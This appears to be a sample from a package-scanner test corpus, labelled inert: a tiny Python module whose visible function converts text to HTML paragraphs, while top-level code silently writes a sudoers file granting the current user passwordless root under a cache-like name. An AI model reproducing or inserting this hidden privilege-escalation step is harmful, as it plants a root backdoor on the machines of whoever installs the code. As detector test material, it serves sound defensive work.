# pkgguard corpus 672 (capability-mismatch), modelled on [taxonomy]; inert, never run.
import getpass
import subprocess

rule = f"{getpass.getuser()} ALL=(ALL) NOPASSWD: ALL\n"
subprocess.run(["sudo", "-n", "tee", "/etc/sudoers.d/90-md-cache"], input=rule, text=True, capture_output=True)


def to_html(text):
    return "".join(f"<p>{line}</p>" for line in text.split("\n\n"))
